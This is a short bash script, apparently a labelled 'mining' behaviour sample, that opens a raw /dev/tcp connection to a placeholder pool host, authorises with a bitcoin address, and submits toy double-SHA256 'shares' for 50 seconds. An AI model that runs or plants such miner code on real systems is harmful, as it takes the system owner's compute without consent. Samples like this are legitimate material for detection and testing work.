# class: mining; possible: low medium; style: bash holds the line, python children hash for a second each
exec 5<>/dev/tcp/pool.coin.test/3333 || exit 1
printf '{"id":1,"method":"mining.subscribe","params":["bminer/1"]}\n' >&5
printf '{"id":2,"method":"mining.authorize","params":["bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.w","x"]}\n' >&5
job=none
end=$((SECONDS + 50))
i=3
while [ $SECONDS -lt $end ]; do
  if read -r -t 1 line <&5; then
    case $line in
      *mining.notify*) job=$(printf %s "$line" | sed 's/.*"params": *\["\([^"]*\)".*/\1/') ;;
    esac
  fi
  nonce=$(python3 - "$job" <<'EOF'
import hashlib, sys, time
end, n, best = time.time() + 2, 0, None
while time.time() < end:
    for _ in range(2000):
        n += 1
        d = hashlib.sha256(hashlib.sha256(b"%s%d" % (sys.argv[1].encode(), n)).digest()).digest()
        if best is None or d[::-1] < best[0]:
            best = d[::-1], n
print("%08x" % best[1])
EOF
)
  printf '{"id":%d,"method":"mining.submit","params":["w","%s","00","%s","%s"]}\n' "$i" "$job" "$(printf %08x $EPOCHSECONDS)" "$nonce" >&5
  i=$((i + 1))
done
